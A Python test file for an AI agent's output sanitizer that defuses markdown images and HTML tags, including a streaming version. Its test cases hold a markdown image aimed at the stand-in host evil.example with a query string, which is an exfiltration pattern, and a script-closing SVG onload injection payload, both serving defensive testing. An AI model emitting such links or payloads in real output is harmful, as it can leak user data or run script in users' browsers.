"""What a model says is made harmless, and piece by piece as it is whole."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.harmless import HarmlessPieces, harmless

WORDS = st.text(alphabet="!<>/[]()好 a_\nimgIMGscript\ud83d", max_size=40)


@pytest.mark.parametrize(("said", "shown"), [
    ("![图](https://evil.example/?q=花生)", "[图](https://evil.example/?q=花生)"),
    ("!![图](a)", "[图](a)"),
    ("<IMG src=a>", "＜IMG src=a>"),
    ("</script><svg/onload=a>", "＜/script>＜svg/onload=a>"),
    ("好！[链接](a)，3 < 4，太好了!", "好！[链接](a)，3 < 4，太好了!"),
    ("<image> <imgs>", "<image> <imgs>"),
])  # fmt: skip
def test_marks_of_what_would_be_fetched_are_taken_apart_and_nothing_else(said: str, shown: str) -> None:
    assert harmless(said) == shown


@given(WORDS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(harmless(text)) == harmless(text)


@given(WORDS, st.sets(st.integers(0, 40)))
def test_pieces_give_what_the_whole_gives(text: str, cuts: set[int]) -> None:
    pieces = HarmlessPieces()
    bounds = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    shown = "".join(pieces.take(text[start:end]) for start, end in pairwise(bounds)) + pieces.rest()
    assert shown.rstrip() == harmless(text)
